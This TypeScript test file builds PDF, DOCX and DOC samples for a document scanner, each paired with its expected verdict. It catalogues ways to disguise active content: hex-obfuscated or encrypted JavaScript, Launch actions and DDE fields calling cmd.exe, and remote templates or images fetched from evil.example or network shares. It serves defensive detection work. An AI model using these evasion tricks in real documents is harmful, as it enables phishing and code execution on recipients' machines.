import { createCipheriv, createHash, randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import type { DocumentRefusal } from './document-finding.ts';
import type { DocumentKind } from './inspect-document.ts';
import * as make from './make-test-documents.ts';

/** A document built for tests, and the expected result of its inspection. */
export interface DocumentSample {
  title: string;
  name: string;
  content: () => Buffer;
  expected: DocumentKind | DocumentRefusal;
}

const object = (id: number, content: string) => `${id} 0 obj\n${content}\nendobj\n`;
const stream = (id: number, dictionary: string, content: string) =>
  `${id} 0 obj\n<<${dictionary}/Length ${content.length}>>\nstream\n${content}\nendstream\nendobj\n`;
const opening = (action: string, objects = '') => make.makePdf({ catalog: `/OpenAction ${action}`, objects });

/** An object stream with a valid header, encrypted by the key of the file if given. */
function objectStream(objects: string, dictionary = '/Type/ObjStm', fileKey?: Buffer, offset = 0): string {
  let data = deflateSync(`5 ${offset} `.concat(objects));
  if (fileKey) {
    const vector = Buffer.alloc(16, 3);
    const cipher = createCipheriv('aes-256-cbc', fileKey, vector);
    data = Buffer.concat([vector, cipher.update(data), cipher.final()]);
  }
  return stream(9, `${dictionary}/N 1/First 4/Filter/FlateDecode`, data.toString('latin1'));
}

const CRYPT_FILTER = '/CF<</StdCF<</CFM/AESV3/AuthEvent/DocOpen/Length 32>>>>/StmF/StdCF/StrF/StdCF';
const hex = (bytes: Buffer) => `<${bytes.toString('hex')}>`;

/** A PDF in AES-256 (revision 5) whose user password is empty, with an encrypted object stream and string. */
function makeEncryptedPdf(packed: string, plain: (encrypt: (text: string) => string) => string, password = ''): Buffer {
  const fileKey = randomBytes(32);
  const [validation, salt] = [Buffer.alloc(8, 1), Buffer.alloc(8, 2)];
  const hash = (value: Buffer) => createHash('sha256').update(password).update(value).digest();
  const user = Buffer.concat([hash(validation), validation, salt]);
  const cipher = createCipheriv('aes-256-cbc', hash(salt), Buffer.alloc(16)).setAutoPadding(false);
  const encryptString = (text: string): string => {
    const vector = Buffer.alloc(16, 4);
    const strings = createCipheriv('aes-256-cbc', fileKey, vector);
    return hex(Buffer.concat([vector, strings.update(text, 'latin1'), strings.final()]));
  };
  const encrypt = `<</Filter/Standard/V 5/R 5/Length 256/P -1084/O${hex(Buffer.alloc(48))}/U${hex(user)}/OE${hex(Buffer.alloc(32))}/UE${hex(cipher.update(fileKey))}/Perms${hex(Buffer.alloc(16))}${CRYPT_FILTER}>>`;
  return make.makePdf({
    objects: `${object(8, encrypt)}${objectStream(packed, '/Type/ObjStm', fileKey)}${plain(encryptString)}`,
    trailer: '/Encrypt 8 0 R/ID[<00><00>]',
  });
}

/** Revision 6 with an empty user password; the validation hash was computed for a salt of 0x07 bytes. */
const REVISION_6_USER =
  'c16eebe2f36a111347f3f56b3e3677f7b937d3728622e03e3dee92a6e2d8e0c307070707070707070000000000000000';
const makeRevision6 = (user: string) =>
  make.makePdf({
    objects: object(
      8,
      `<</Filter/Standard/V 5/R 6/Length 256/P -4/O<00>/U<${user}>/UE${hex(Buffer.alloc(32))}${CRYPT_FILTER}>>`,
    ),
    trailer: '/Encrypt 8 0 R',
  });

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const hiddenIn = (content: string) => make.makePdf({ objects: content });

type Row = [title: string, content: () => Buffer, expected: DocumentSample['expected']];

const pdfs: Row[] = [
  // Ways to spell a script.
  ['script', () => opening(script), 'macros'],
  ['name in hex', () => opening('<</S/#4a#61va#53cript/JS(x)>>'), 'macros'],
  ['name in upper-case hex', () => opening('<</S/#4A#61vaScrip#74/JS(x)>>'), 'macros'],
  ['key in hex', () => opening('<</#53/JavaScript>>'), 'macros'],
  ['only the script, its key in hex', () => opening('<</#4a#53(app.alert\\(1\\))>>'), 'macros'],
  ['comment between key and name', () => opening('<</S%/S/URI\n/JavaScript>>'), 'macros'],
  ['comments everywhere', () => opening('<<%\n/S%>>\r%x\n/JavaScript%\n/JS%\n(x)%\n>>'), 'macros'],
  ['name by reference', () => opening('<</S 7 0 R>>', object(7, '/JavaScript')), 'macros'],
  ['name by reference, in hex', () => opening('<</S 7 0 R>>', object(7, '/#4aavaScript')), 'macros'],
  [
    'name by a chain of references',
    () => opening('<</S 7 0 R>>', object(7, '8 0 R') + object(8, '/JavaScript')),
    'macros',
  ],
  ['comments inside a reference', () => opening('<</S 7%0\n0%1\nR>>', object(7, '%\n/JavaScript')), 'macros'],
  ['comments in the head of an object', () => opening('<</S 7 0 R>>', '7%\n0%\nobj%\n/JavaScript endobj'), 'macros'],
  ['reference without blanks', () => opening('<</S 7 0R/JS 6 0R>>', object(7, '/JavaScript')), 'macros'],
  ['object without blanks', () => opening('<</S 7 0 R>>', '7 0obj/JavaScript endobj'), 'macros'],
  ['script in a stream', () => opening('<</JS 7 0 R>>', stream(7, '', 'app.alert(1)')), 'macros'],
  ['key given twice', () => opening('<</S/URI/S/JavaScript/S/URI/URI(x)>>'), 'macros'],
  ['dictionary with junk', () => opening('<<5 (x) /S junk /S/JavaScript>>'), 'macros'],
  ['dictionary without end', () => hiddenIn('7 0 obj <</S/JavaScript/JS(x) endobj'), 'macros'],
  ['parentheses and escapes around it', () => opening('<</T(a\\)(b\\\\)>>)/S/JavaScript>>'), 'macros'],
  [
    'older definition of an object',
    () => opening('<</S 7 0 R>>', object(7, '/JavaScript') + object(7, '/URI')),
    'macros',
  ],
  [
    'blanks without end in the head of an object',
    () => opening('<</S 7 0 R>>', `7${' '.repeat(50_000)}0${'\n'.repeat(50_000)}obj/JavaScript endobj`),
    'macros',
  ],
  [
    'comments without end in the head of an object',
    () => hiddenIn(`${object(6, '<</F(a)/EF 7 0 R>>')}7 %${' '.repeat(1_000)}\n0 obj<</F 6 0 R>> endobj`),
    'broken',
  ],
  ['name that is defined nowhere', () => opening('<</S 99 0 R/JS 98 0 R>>'), 'broken'],
  // Places to hide one.
  ['catalog in the trailer', () => make.makePdf({ trailer: `/Root<</OpenAction${script}>>` }), 'macros'],
  ['object in a comment', () => hiddenIn(`% 7 0 obj ${script} endobj\n`), 'macros'],
  ['object in a string', () => hiddenIn(object(6, `(7 0 obj ${script} endobj)`)), 'macros'],
  ['object in the data of a stream', () => hiddenIn(stream(6, '', `7 0 obj ${script} endobj`)), 'macros'],
  ['page event', () => hiddenIn(object(7, `<</Type/Page/AA<</O ${script}>>>>`)), 'macros'],
  ['following action', () => opening(`<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(x)>>${script}]>>`), 'macros'],
  ['name tree', () => make.makePdf({ catalog: `/Names<</JavaScript<</Names[(x)${script}]>>>>` }), 'macros'],
  ['form field', () => hiddenIn(object(7, `<</FT/Tx/AA<</K${script}>>>>`)), 'macros'],
  ['object stream', () => hiddenIn(objectStream(script)), 'macros'],
  [
    'object stream, type by reference',
    () => hiddenIn(objectStream(script, '/Type 7 0 R') + object(7, '/ObjStm')),
    'macros',
  ],
  ['object stream, type in hex', () => hiddenIn(objectStream(script, '/#54ype/Obj#53tm')), 'macros'],
  ['object stream without type', () => hiddenIn(objectStream(script, '')), 'macros'],
  ['object stream, wrong length', () => hiddenIn(objectStream(script, '/Type/ObjStm/Length 3')), 'macros'],
  [
    'object stream, offset behind other values',
    () => hiddenIn(objectStream(`(( ${script}`, undefined, undefined, 3)),
    'macros',
  ],
  [
    'object stream whose filter is by reference',
    () =>
      hiddenIn(
        stream(9, '/Type/ObjStm/N 1/First 4/Filter 7 0 R', deflateSync(`5 0 ${script}`).toString('latin1')) +
          object(7, '/FlateDecode'),
      ),
    'macros',
  ],
  [
    'object stream, filter of no writer, by reference',
    () => hiddenIn(stream(9, '/Type/ObjStm/N 1/First 4/Filter 7 0 R', 'zz') + object(7, '[/ASCII85Decode]')),
    'broken',
  ],
  ['owner password', () => makeEncryptedPdf(script, () => ''), 'macros'],
  [
    'owner password, program name encrypted',
    () => makeEncryptedPdf('null', (encrypt) => object(7, `<</Type/Filespec/F${encrypt('setup.exe')}>>`)),
    'macros',
  ],
  // Other actions and parts.
  ['program', () => opening('<</S/Launch/F(cmd.exe)>>'), 'macros'],
  ['program by reference', () => opening('<</S 7 0 R/Win<</F(cmd.exe)>>>>', object(7, '/L#61unch')), 'macros'],
  ['import of data', () => opening('<</S/ImportData/F(x.fdf)>>'), 'macros'],
  ['rendition', () => opening('<</S/Rendition/OP 0/R 7 0 R>>'), 'active'],
  ['rendition with a script', () => opening('<</S/Rendition/JS(x)>>'), 'macros'],
  ['form submission', () => opening('<</S/SubmitForm/F<</FS/URL/F(https://evil.example)>>>>'), 'active'],
  ['form submission by reference', () => opening('<</S 7 0 R/F(x)>>', object(7, '/Submit#46orm')), 'active'],
  ['page of another file', () => opening('<</S/GoToR/F(\\\\\\\\evil.example\\\\s\\\\a.pdf)/D[0/Fit]>>'), 'active'],
  ['page of another file in page events', () => hiddenIn(object(7, '<</AA<</O<</S/GoToR/F(x.pdf)>>>>>>')), 'active'],
  ['embedded document', () => opening('<</S/GoToE/T<</R/C/N(x)>>>>'), 'active'],
  [
    'dynamic form',
    () => make.makePdf({ catalog: '/AcroForm<</XFA 7 0 R>>', objects: stream(7, '', '<xdp/>') }),
    'active',
  ],
  [
    'dynamic form, key in hex',
    () => make.makePdf({ catalog: '/AcroForm<</X#46A[(a)7 0 R]>>', objects: stream(7, '', '<xdp/>') }),
    'active',
  ],
  ['rich media', () => hiddenIn(object(7, '<</Type/Annot/Subtype/RichMedia>>')), 'active'],
  [
    'rich media by reference',
    () => hiddenIn(object(7, '<</Type/Annot/Subtype 6 0 R>>') + object(6, '/Rich#4dedia')),
    'active',
  ],
  ['film', () => hiddenIn(object(7, '<</Type/Annot/Subtype/Movie>>')), 'active'],
  [
    'attachment',
    () => hiddenIn(object(7, '<</Type/Filespec/F(a.txt)/EF<</F 6 0 R>>>>') + stream(6, '/Type/EmbeddedFile', 'x')),
    'active',
  ],
  [
    'attachment without type',
    () => hiddenIn(object(7, '<</F(a.txt)/EF 5 0 R>>') + object(5, '<</F 6 0 R>>') + stream(6, '', 'x')),
    'active',
  ],
  ['attachment as an annotation', () => hiddenIn(object(7, '<</Subtype/FileAttachment>>')), 'active'],
  ['attachment in an object stream', () => hiddenIn(objectStream('<</F(a)/EF<</F 6 0 R>>>>')), 'active'],
  [
    'page drawn from another file',
    () => hiddenIn(stream(7, '/Subtype/Form/Ref<</F(//evil.example/a.pdf)/Page 0>>', 'x')),
    'active',
  ],
  ['stream in another file', () => hiddenIn(stream(7, '/F(//evil.example/a)', 'x')), 'active'],
  ['web page that opens by itself', () => opening('<</S/URI/URI(https://evil.example)>>'), 'active'],
  [
    'web page that opens with a page',
    () => hiddenIn(object(7, '<</Type/Page/AA<</O<</S/URI/URI(http://x)>>>>>>')),
    'active',
  ],
  ['link to a script in octal', () => hiddenIn(object(7, '<</S/URI/URI(\\152\\141vascript:x)>>')), 'active'],
  [
    'link to a script in hex',
    () => hiddenIn(object(7, `<</S/URI/URI<${Buffer.from('javascript:x').toString('hex')}>>>`)),
    'active',
  ],
  ['link to a network share', () => hiddenIn(object(7, '<</S/URI/URI(file://evil.example/a)>>')), 'active'],
  [
    'link to a network share with backslashes',
    () => hiddenIn(object(7, '<</S/URI/URI(\\134\\134evil.example\\134a)>>')),
    'active',
  ],
  // What must be accepted.
  [
    'web links',
    () =>
      hiddenIn(
        object(7, '<</S/URI/URI(https://example.com/a?b=c:d)>>') + object(6, '<</S/URI/URI(mailto:a@example.com)>>'),
      ),
    'pdf',
  ],
  ['link to a file of its author', () => hiddenIn(object(7, '<</S/URI/URI(file:///C:/Users/a/b.pdf)>>')), 'pdf'],
  ['opening view by reference', () => opening('7 0 R', object(7, '<</S/GoTo/D[3 0 R/XYZ 0 0 0]>>')), 'pdf'],
  [
    'places named JavaScript and JS',
    () => make.makePdf({ catalog: '/Dests<</JavaScript[3 0 R/Fit]/JS[3 0 R/Fit]/Launch[3 0 R/Fit]>>' }),
    'pdf',
  ],
  [
    'text about active content',
    () => hiddenIn(object(7, '(/S /JavaScript /Launch /XFA)') + stream(6, '', '(/S/JavaScript/JS(x))Tj')),
    'pdf',
  ],
  ['tagged structure', () => hiddenIn(object(7, '<</Type/StructElem/S/H1/P 2 0 R/K[<</S/Span/K 0>>]>>')), 'pdf'],
  [
    'form fields',
    () =>
      make.makePdf({
        catalog: '/AcroForm<</Fields[7 0 R]/XFA null>>',
        objects: object(7, '<</FT/Tx/T(name)/V(Asha)/F 4>>'),
      }),
    'pdf',
  ],
  ['empty list of attachments', () => make.makePdf({ catalog: '/Names<</EmbeddedFiles<</Names[]>>>>' }), 'pdf'],
  ['reference to nothing', () => make.makePdf({ catalog: '/Outlines 99 0 R' }), 'pdf'],
  ['catalog and pages in an object stream', () => hiddenIn(objectStream('<</Type/Catalog/Pages 2 0 R>>')), 'pdf'],
  [
    'owner password, AES-256',
    () => makeEncryptedPdf('<</Title(x)>>', (encrypt) => object(7, `<</S/URI/URI${encrypt('https://example.com')}>>`)),
    'pdf',
  ],
  ['owner password, AES-256 of PDF 2.0', () => makeRevision6(REVISION_6_USER), 'pdf'],
  ['user password, AES-256', () => makeEncryptedPdf('<</Title(x)>>', () => '', 'secret'), 'locked'],
  ['user password, AES-256 of PDF 2.0', () => makeRevision6(REVISION_6_USER.replace(/^../, '00')), 'locked'],
  [
    'certificates',
    () => make.makePdf({ objects: object(8, '<</Filter/Adobe.PubSec/V 4>>'), trailer: '/Encrypt 8 0 R' }),
    'locked',
  ],
  // Work without end.
  ['values nested deeply', () => hiddenIn(`7 0 obj ${'['.repeat(200_000)}`), 'bomb'],
  ['dictionaries nested deeply', () => hiddenIn(`7 0 obj ${'<</A'.repeat(200_000)}`), 'bomb'],
  ['objects that overlap', () => hiddenIn('7 0 obj('.repeat(200_000)), 'bomb'],
  ['references in a circle', () => opening('<</S 7 0 R>>', object(7, '8 0 R') + object(8, '7 0 R')), 'bomb'],
  [
    'references that multiply',
    () =>
      opening(
        '<</S 10 0 R>>',
        Array.from({ length: 25 }, (_, i) => object(10 + i, `${11 + i} 0 R`).repeat(3)).join('') + object(35, '/URI'),
      ),
    'bomb',
  ],
];

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const bodyOf = (content: string, name = 'word/document.xml') => ({
  name,
  content: `<?xml version="1.0" encoding="UTF-8"?><w:document ${W}><w:body><w:p>${content}</w:p></w:body></w:document>`,
});
const docxOf = (content: string) => make.makeZip([make.contentTypes(), bodyOf(content)]);
const run = (content: string) => `<w:r>${content}</w:r>`;
const char = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`);
const instruction = (...texts: string[]) =>
  texts.map((text) => run(`<w:instrText>${text}</w:instrText>`)).join('</w:p><w:p>');
const field = (...texts: string[]) =>
  `${char('begin')}${instruction(...texts)}${char('separate')}${run('<w:t>x</w:t>')}${char('end')}`;
const simple = (text: string) => `<w:fldSimple w:instr="${text}"><w:r><w:t>x</w:t></w:r></w:fldSimple>`;

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
/** A relation of a part. */
const related = (
  type: string,
  target: string,
  part = 'word/_rels/document.xml.rels',
  mode = 'TargetMode="External"',
) => ({
  name: part,
  content: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${OFFICE}/${type}" Target="${target}" ${mode}/></Relationships>`,
});
const template = (target: string) => make.makeDocx(related('attachedTemplate', target, 'word/_rels/settings.xml.rels'));
const image = (part: string) => make.makeDocx(related('image', 'https://evil.example/a.png', part));
const embedded = (...parts: Parameters<typeof make.makeZip>[0]) =>
  make.makeDocx({
    name: 'word/embeddings/Sheet1.xlsx',
    content: make.makeZip([{ name: 'xl/workbook.xml', content: '<workbook/>' }, ...parts]),
  });
const utf16 = (text: string, mark = '\ufeff') => Buffer.from(mark + text, 'utf16le');
const remoteImage = related('image', 'https://evil.example/a.png');

const docxs: Row[] = [
  ...[
    'http://evil.example/t.dotm',
    'HTTPS://evil.example/t.dotm',
    '&#104;ttp://evil.example/t.dotm',
    ' http://evil.example/t.dotm',
    'file://evil.example/share/t.dotm',
    'file:////evil.example/share/t.dotm',
    'file://///evil.example/share/t.dotm',
    'file:\\\\evil.example\\share\\t.dotm',
    'file:///\\\\evil.example\\share\\t.dotm',
    'FILE://10.0.0.1/t.dotm',
    'file:///%5C%5Cevil.example%5Ct.dotm',
    'file:&#47;/evil.example/t.dotm',
    '\\\\evil.example\\share\\t.dotm',
    '\\\\evil.example@SSL@443\\DavWWWRoot\\t.dotm',
    '\\\\?\\UNC\\evil.example\\t.dotm',
    '//evil.example/t.dotm',
    '/\\evil.example/t.dotm',
    'ftp://evil.example/t.dotm',
    'mhtml:http://evil.example/t',
    'ms-word:ofe|u|http://evil.example/t.dotm',
  ].map((target): Row => [`template ${target}`, () => template(target), 'active']),
  [
    'template without a mode',
    () => make.makeDocx(related('attachedTemplate', 'http://evil.example', undefined, '')),
    'active',
  ],
  [
    'mode in lower case and entities',
    () => make.makeDocx(related('image', 'x', undefined, 'TargetMode=" &#101;xternal "')),
    'active',
  ],
  [
    'prefixes and single quotes',
    () =>
      make.makeDocx({
        name: 'word/_rels/document.xml.rels',
        content: `<p:Relationships xmlns:p="x"><p:Relationship Type='${OFFICE}/image' Target='http://x' Id='a>b' TargetMode='External'></p:Relationship></p:Relationships>`,
      }),
    'active',
  ],
  ...[
    'header1',
    'footer2',
    'settings',
    'footnotes',
    'comments',
    'glossary/document',
    'glossary/settings',
    'webSettings',
    'theme/theme1',
    'charts/chart1',
    'diagrams/data1',
    'numbering',
  ].map((part): Row => {
    const at = part.lastIndexOf('/') + 1;
    return [`picture of ${part}`, () => image(`word/${part.slice(0, at)}_rels/${part.slice(at)}.xml.rels`), 'active'];
  }),
  ['picture of the package', () => image('_rels/.rels'), 'active'],
  ['picture of custom XML', () => image('customXml/_rels/item1.xml.rels'), 'active'],
  ['relations with an unusual name', () => image('WORD/_RELS/Document.XML.RELS'), 'active'],
  ['relations under another ending', () => image('word/_rels/document.xml.%72els'), 'active'],
  ['relations in UTF-16', () => make.makeDocx({ ...remoteImage, content: utf16(remoteImage.content) }), 'active'],
  [
    'relations in UTF-16 without a mark',
    () => make.makeDocx({ ...remoteImage, content: utf16(remoteImage.content, '') }),
    'active',
  ],
  [
    'relations in UTF-7',
    () => make.makeDocx({ ...remoteImage, content: '<?xml version="1.0" encoding="utf-7"?>+ADw-Relationships/+AD4-' }),
    'broken',
  ],
  [
    'relations with entities of their own',
    () => make.makeDocx({ ...remoteImage, content: '<!DOCTYPE x [<!ENTITY e "External">]><Relationships/>' }),
    'broken',
  ],
  [
    'links of the settings',
    () => make.makeDocx(related('hyperlink', 'http://x', 'word/_rels/settings.xml.rels')),
    'active',
  ],
  ...['aFChunk', 'oleObject', 'control', 'frame', 'subDocument', 'activeXControlBinary'].map(
    (type): Row => [`part of type ${type}`, () => make.makeDocx(related(type, 'part.bin', undefined, '')), 'active'],
  ),
  ...['oleObject', 'image', 'video', 'audio', 'customXml', 'package', 'mailMergeSource', 'transform', 'http'].map(
    (type): Row => [`external ${type}`, () => make.makeDocx(related(type, 'file:///C:\\a.xml')), 'active'],
  ),
  ['macros by relation', () => make.makeDocx(related('vbaProject', 'a.bin', undefined, '')), 'macros'],
  [
    'embedded sheet with an external link',
    () => embedded(related('externalLinkPath', 'http://x', 'xl/externalLinks/_rels/a.xml.rels')),
    'active',
  ],
  ['embedded sheet with macros', () => embedded({ name: 'xl/vbaProject.bin', content: 'x' }), 'macros'],
  ['embedded sheet under a password', () => embedded({ name: 'xl/a.xml', content: 'x', flags: 1 }), 'active'],
  [
    'packages nested deeply',
    () => embedded({ name: 'a.xlsx', content: embedded({ name: 'b.xlsx', content: embedded() }) }),
    'bomb',
  ],
  ['element altChunk', () => docxOf('<w:altChunk r:id="r1"/>'), 'active'],
  ['element OLEObject', () => docxOf('<w:object><o:OLEObject Type="Link" r:id="r1"/></w:object>'), 'active'],
  [
    'drawing with a picture from the web',
    () => docxOf('<v:shape><v:imagedata src="http://evil.example/a.png"/></v:shape>'),
    'active',
  ],
  ['drawing with a picture from a share', () => docxOf('<v:fill o:href="\\\\evil.example\\a.png"/>'), 'active'],
  // Fields.
  ['DDE, simple', () => docxOf(simple('DDE &quot;c:\\\\windows\\\\cmd.exe&quot; &quot;/k calc&quot;')), 'active'],
  ['DDEAUTO, simple, spaces and case', () => docxOf(simple('  dDeAuto   c:\\\\cmd.exe')), 'active'],
  ['DDEAUTO in entities', () => docxOf(simple('&#68;&#x44;EAUTO x')), 'active'],
  ['DDEAUTO, complex', () => docxOf(field(' DDEAUTO c:\\\\cmd.exe ')), 'active'],
  ['DDEAUTO split over runs and paragraphs', () => docxOf(field('D', 'D', 'E', 'AU', 'TO', ' x')), 'active'],
  ['DDEAUTO split by a comment', () => docxOf(field('DD<!-- > -->EAUTO x')), 'active'],
  ['DDEAUTO in a CDATA section', () => docxOf(field('<![CDATA[ DDEAUTO x]]>')), 'active'],
  ['DDEAUTO, quoted', () => docxOf(field('"DDEAUTO" x')), 'active'],
  ['DDEAUTO after tabs and line ends', () => docxOf(field('&#9;\n&#160;DDEAUTO\tx')), 'active'],
  ['DDEAUTO after many blanks', () => docxOf(field(' '.repeat(20_000), 'DDEAUTO x')), 'active'],
  ['DDEAUTO without an end', () => docxOf(`${char('begin')}${instruction('DDEAUTO x')}`), 'active'],
  [
    'DDEAUTO in a nested field',
    () => docxOf(`${char('begin')}${instruction('IF 1 = 1 ')}${field('DDEAUTO x')}${char('end')}`),
    'active',
  ],
  [
    'DDE computed by a nested field',
    () => docxOf(`${char('begin')}${instruction('DD')}${field('QUOTE 69')}${instruction(' x')}${char('end')}`),
    'active',
  ],
  [
    'DDEAUTO as deleted text',
    () => docxOf(`${char('begin')}${run('<w:delInstrText>DDEAUTO x</w:delInstrText>')}${char('end')}`),
    'active',
  ],
  ['DDEAUTO as text', () => docxOf(`${char('begin')}${run('<w:t>DDEAUTO x</w:t>')}${char('end')}`), 'active'],
  ['DDEAUTO under another prefix', () => docxOf('<a:fldSimple a:instr="DDEAUTO x"/>'), 'active'],
  ['DDEAUTO in a header', () => make.makeDocx(bodyOf(field('DDEAUTO x'), 'word/header1.xml')), 'active'],
  ['DDEAUTO in the glossary', () => make.makeDocx(bodyOf(simple('DDE x'), 'word/glossary/document.xml')), 'active'],
  [
    'DDEAUTO in UTF-16',
    () =>
      make.makeDocx({
        name: 'word/footer1.xml',
        content: utf16(bodyOf(field('DDEAUTO x')).content.replace('UTF-8', 'UTF-16')),
      }),
    'active',
  ],
  ['LINK', () => docxOf(field('LINK Excel.Sheet.12 "C:\\\\a.xlsx" \\a')), 'active'],
  ['DATABASE', () => docxOf(field('DATABASE \\d "C:\\\\a.mdb"')), 'active'],
  ...[
    '"http://evil.example/a.png" \\* MERGEFORMATINET',
    '\\d "\\\\\\\\evil.example\\\\a.png"',
    'file://evil.example/a.png',
    '"\\\\evil.example\\a.png"',
    '“https://evil.example”',
    '"//evil.example/a"',
    '"file:////evil.example/a"',
  ].flatMap((argument): Row[] => [
    [`INCLUDEPICTURE ${argument}`, () => docxOf(field(`INCLUDEPICTURE ${argument}`)), 'active'],
    [`includetext ${argument}`, () => docxOf(simple(`includetext ${argument.replaceAll('"', '&quot;')}`)), 'active'],
  ]),
  [
    'INCLUDEPICTURE computed',
    () => docxOf(`${char('begin')}${instruction('INCLUDEPICTURE ')}${field('QUOTE 104')}${char('end')}`),
    'active',
  ],
  // What must be accepted.
  ...[
    'file:///C:\\Users\\a\\t.dotx',
    'file:///C:/Users/a/t.dotx',
    'C:\\Users\\a\\t.dotx',
    'Normal.dotm',
    'file:///Users/a/Library/t.dotx',
    'file:///C:\\Users\\a%20b\\t.dotx',
    'file://localhost/C:/t.dotx',
  ].map((target): Row => [`template ${target}`, () => template(target), 'docx']),
  ['web links', () => make.makeDocx(related('hyperlink', 'https://example.com/?a=b&amp;c=d')), 'docx'],
  [
    'links of a header',
    () => make.makeDocx(related('hyperlink', 'mailto:a@example.com', 'word/_rels/header1.xml.rels')),
    'docx',
  ],
  [
    'pictures and parts inside',
    () =>
      make.makeDocx(
        related('image', 'media/image1.png', undefined, ''),
        related('image', '/word/media/a.png', 'word/_rels/header1.xml.rels', 'TargetMode="Internal"'),
      ),
    'docx',
  ],
  [
    'ordinary fields',
    () =>
      docxOf(
        field(' PAGE ') +
          field('HYPERLINK "https://example.com"') +
          field('MACROBUTTON NoMacro [Your name]') +
          simple(' DATE \\@ "d MMMM yyyy" ') +
          field('TOC \\o "1-3"'),
      ),
    'docx',
  ],
  [
    'formulas of nested fields',
    () => docxOf(`${char('begin')}${instruction(' =')}${field('PAGE')}${instruction('-1')}${char('end')}`),
    'docx',
  ],
  [
    'picture field of the own machine',
    () => docxOf(field('INCLUDEPICTURE "C:\\\\Users\\\\a\\\\photo.jpg" \\* MERGEFORMAT')),
    'docx',
  ],
  [
    'picture field of a mail',
    () => docxOf(field('INCLUDEPICTURE "cid:image001.png@01D5" \\* MERGEFORMATINET')),
    'docx',
  ],
  [
    'text about fields',
    () => docxOf(run('<w:t>DDEAUTO, INCLUDEPICTURE "http://example.com" and TargetMode="External"</w:t>')),
    'docx',
  ],
  [
    'a chart with its sheet',
    () => embedded(related('worksheet', 'worksheets/sheet1.xml', 'xl/_rels/workbook.xml.rels', '')),
    'docx',
  ],
  [
    'a picture with a document type',
    () =>
      make.makeDocx({
        name: 'word/media/image1.svg',
        content: '<!DOCTYPE svg PUBLIC "x" "http://www.w3.org/x.dtd"><svg/>',
      }),
    'docx',
  ],
];

const MARKS = { begin: '\u0013', separate: '\u0014', end: '\u0015' };
const docField = (text: string) => `${MARKS.begin}${text}${MARKS.separate}x${MARKS.end}`;

/** A Word 97–2003 document with text in pieces, alternately 8 and 16 bits wide and stored in reverse order. */
export function makeDocOfText(
  pieces: string[],
  templatePath = 'Normal.dot',
  more: Record<string, Buffer> = {},
): Buffer {
  const head = Buffer.concat([make.wordHead(), Buffer.alloc(pieces.join('').length * 2 + 2_000)]);
  const stored: number[] = [];
  let at = 2_048;
  for (const [i, text] of [...pieces.entries()].reverse()) {
    const isWide = i % 2 === 1;
    stored[i] = isWide ? at : (at * 2) | 0x40000000;
    at += head.write(text, at, isWide ? 'utf16le' : 'latin1');
  }
  const positions = [0];
  for (const text of pieces) positions.push((positions.at(-1) ?? 0) + text.length);
  const table = Buffer.alloc((pieces.length + 1) * 4 + pieces.length * 8);
  for (const [i, position] of positions.entries()) table.writeUInt32LE(position, i * 4);
  for (const [i, position] of stored.entries()) table.writeUInt32LE(position, (pieces.length + 1) * 4 + i * 8 + 2);
  const clx = Buffer.concat([Buffer.from([1, 2, 0, 0, 0, 2, 0, 0, 0, 0]), table]);
  clx.writeUInt32LE(table.length, 6);
  const strings = ['', templatePath].map((text) => {
    const length = Buffer.alloc(2);
    length.writeUInt16LE(text.length);
    return Buffer.concat([length, Buffer.from(text, 'utf16le')]);
  });
  const associated = Buffer.concat([Buffer.from('ffff02000000', 'hex'), ...strings]);
  const tables = Buffer.concat([Buffer.alloc(16), clx, associated, Buffer.alloc(4_096)]);
  for (const [offset, value] of [
    [0x1a2, 16],
    [0x1a6, clx.length],
    [0x19a, 16 + clx.length],
    [0x19e, associated.length],
  ] as const)
    head.writeUInt32LE(value, offset);
  return make.makeCompoundFile({ WordDocument: head, '1Table': tables, ...more });
}

const rawDoc = (text: Buffer) => {
  const head = make.wordHead();
  text.copy(head, 1_000);
  return make.makeCompoundFile({ WordDocument: head, '1Table': Buffer.alloc(4_096) });
};

const docs: Row[] = [
  ['DDEAUTO', () => makeDocOfText([docField(' DDEAUTO c:\\\\cmd.exe ')]), 'active'],
  [
    'DDEAUTO split over pieces',
    () => makeDocOfText(['Resume \u0013 D', 'd', 'Eau', 'to c:\\\\cmd.exe \u0014x\u0015']),
    'active',
  ],
  ['DDE in a nested field', () => makeDocOfText(['\u0013IF 1 = 1 ', docField('DDE x y'), '\u0015']), 'active'],
  ['DDEAUTO without a piece table', () => rawDoc(Buffer.from('\u0013 DDEAUTO x\u0015', 'latin1')), 'active'],
  ['DDEAUTO without a piece table, 16 bits', () => rawDoc(Buffer.from('\u0013 DDEAUTO x\u0015', 'utf16le')), 'active'],
  ['INCLUDEPICTURE', () => makeDocOfText([docField('INCLUDEPICTURE "http://evil.example/a.png"')]), 'active'],
  ['LINK', () => makeDocOfText([docField('LINK Word.Document.8 "\\\\\\\\evil.example\\\\a.doc"')]), 'active'],
  ['template from the web', () => makeDocOfText(['Resume'], 'http://evil.example/t.dot'), 'active'],
  ['template from a share', () => makeDocOfText(['Resume'], '\\\\evil.example\\s\\t.dot'), 'active'],
  [
    'OLE object',
    () => makeDocOfText(['Resume'], undefined, { 'ObjectPool/_1234/\u0001Ole': Buffer.alloc(20) }),
    'active',
  ],
  ['macros', () => makeDocOfText(['Resume'], undefined, { 'Macros/VBA/dir': Buffer.alloc(20) }), 'macros'],
  [
    'ordinary fields',
    () => makeDocOfText(['Resume ', docField('PAGE'), docField('HYPERLINK "https://example.com"'), ' DDEAUTO x']),
    'doc',
  ],
  ['template of its machine', () => makeDocOfText(['Resume'], 'C:\\Templates\\Resume.dot'), 'doc'],
];

const toSamples = (kind: DocumentKind, rows: Row[]): DocumentSample[] =>
  rows.map(([title, content, expected]) => ({ title: `${kind}: ${title}`, name: `resume.${kind}`, content, expected }));

/** Documents with active content in every disguise, and genuine ones that resemble them. */
export const documentSamples: DocumentSample[] = [
  ...toSamples('pdf', pdfs),
  ...toSamples('docx', docxs),
  ...toSamples('doc', docs),
];
